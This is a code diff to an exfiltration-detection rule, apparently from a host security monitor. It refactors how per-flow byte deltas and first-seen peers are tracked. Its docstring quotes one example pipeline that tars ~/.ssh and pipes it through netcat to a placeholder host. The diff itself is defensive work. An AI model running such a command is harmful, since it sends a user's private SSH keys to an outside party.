@@ -7,10 +7,11 @@ Evidence, all from the agent's own inputs (docs/detections-exfiltration.md):
   `files`), kept per process; a read by a process's child, parent or sibling (a pipeline:
   ``tar cz ~/.ssh | nc HOST PORT``) counts too when recent (related_window_s), scored lower;
 * bytes sent afterwards, per (process, peer): the growth of each connection's payload
-  counter, from live progress snapshots of open connections (cumulative counters; the rule
-  keeps the last value per flow id and takes deltas) and from completed flows, summed over
-  the connections to one peer (a peer is its DNS name when known, else its address). Bytes
-  count when sent within window_s of the read, or on a connection that began within it.
+  counter, from live progress snapshots of open connections (cumulative counters; each
+  carries the previous snapshot's, the delta is their difference) and from completed flows,
+  summed over the connections to one peer (a peer is its DNS name when known, else its
+  address). Bytes count when sent within window_s of the read, or on a connection that
+  began within it.
 
 It fires when the bytes reach min_bytes: while the upload is still open, at the first
 progress snapshot past the threshold (so within kernel.stats_interval_s plus one tick), or
@@ -121,10 +122,9 @@ class Exfiltration(Rule):
         self._trusted = _Trusted(s.trusted_readers)
         self._reads = ctx.bounded("exfiltration.reads", s.max_processes)  # pid -> deque
         self._parent = ctx.bounded("exfiltration.parents", max(4 * s.max_processes, 65_536))
-        # open flow id -> bytes sent at its previous snapshot << 1 | whether its peer was new:
-        # one int per open flow, not a tuple (this table holds every open connection)
-        self._last = ctx.bounded("exfiltration.flows", s.max_flows)
         self._uploads = ctx.bounded("exfiltration.uploads", ctx.config.max_actors)
+        # (actor, peer) pairs seen -> the id of the flow that showed the pair first while that
+        # flow is open (its later snapshots are still to a new peer), else None
         self._known = ctx.bounded("exfiltration.known_peers", s.max_known_peers)
         self._names = ctx.bounded("exfiltration.names", 65_536)  # address -> DNS name
         self.stats = {"sensitive_reads": 0, "trusted_reads": 0, "write_opens": 0,
@@ -185,25 +185,14 @@ class Exfiltration(Rule):
     def _sent(self, actor: Actor, f: FlowRecord, complete: bool) -> list[Finding]:
         fid = f.flow_id
         cur = f.counters.payload_out
-        prev = self._last.pop(fid, None) if complete else self._last.get(fid)
+        # the flow's previous snapshot (None: this is the first record of it seen)
+        prev = f.reported
         o = f.owner
         if o is None or f.summary or not f.peer_addr:
             return []  # no process (Zeek), or many lost connections in one record
         name = self._peer_name(f)
         peer_key = name or f.peer_addr
-        if prev is None:
-            known = (actor.key, peer_key)
-            new_peer = known not in self._known
-            if new_peer:  # insertion order: the oldest learned pair is forgotten first
-                self._known.put(known, None)
-        else:
-            new_peer = bool(prev & 1)
-        if not complete:
-            packed = cur << 1 | new_peer
-            if prev is None:
-                self._last.put(fid, packed)
-            else:
-                self._last[fid] = packed  # keeps its place: cheaper than an LRU move
+        new_peer = self._new_peer((actor.key, peer_key), fid, prev is None, complete)
         pid = o.tgid
         parent = self._parent.get(pid) if self._related else None
         if not (pid in self._reads or (parent and parent in self._reads) or f.files):
@@ -213,7 +202,7 @@ class Exfiltration(Rule):
         if not reads or (not self.s.include_loopback and _loopback(f.peer_addr)):
             return []
         if prev is not None:
-            delta = cur - (prev >> 1)
+            delta = cur - prev.payload_out
         elif f.start_ns >= min(r.time_ns for r, _ in reads):
             delta = cur  # the whole connection came after the read
         else:
@@ -234,6 +223,22 @@ class Exfiltration(Rule):
             return []
         up.fired = True
         return [self._finding(actor, f, up, reads, name, t)]
+
+    def _new_peer(self, pair: tuple[str, str], fid: str, first: bool, complete: bool) -> bool:
+        """Whether the actor had never sent to this peer before this flow: true for the flow
+        that showed the pair first, for as long as that flow lasts."""
+        known = self._known
+        if first:
+            if pair in known:
+                return False
+            # insertion order: the oldest learned pair is forgotten first
+            known.put(pair, None if complete else fid)
+            return True
+        if known.get(pair) != fid:
+            return False
+        if complete:
+            known[pair] = None  # keeps its place; the flow's id is not kept past its end
+        return True
 
     def _eligible(self, pid: int, parent: int | None, f: FlowRecord, t: int
                   ) -> list[tuple[_Read, str]]:
